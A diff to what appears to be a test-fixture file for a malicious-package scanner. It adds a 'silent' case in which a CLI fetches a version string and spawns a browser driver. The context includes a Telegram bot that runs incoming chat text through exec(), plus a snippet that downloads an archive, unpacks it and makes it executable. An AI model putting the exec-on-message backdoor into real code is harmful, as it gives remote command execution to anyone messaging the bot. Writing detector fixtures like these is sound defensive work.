@@ -391,6 +391,14 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
   ],
   silent: [
     {
+      when: 'what is asked for is the version that a program is kept under',
+      files: {
+        'package.json': { name: 'inert-driver', version: '1.0.0', bin: 'cli.js', description: 'Brings the driver of a browser' },
+        'cli.js': `#!/usr/bin/env node\nconst { bring } = require('./bring'); bring().then(file => require('child_process').spawn(file, process.argv.slice(2)));`,
+        'bring.js': `const path = require('path'); exports.bring = async () => { const version = await (await fetch('https://raw.githubusercontent.invalid/version')).text(); return path.resolve(require('os').tmpdir(), 'driver-' + version); };`,
+      },
+    },
+    {
       when: 'an archive is fetched and unpacked, and something else is started',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execSync('chmod 755 /tmp/y/run'); cp.execSync('git status'); fs.readFileSync('/tmp/y/data.json') })();`,
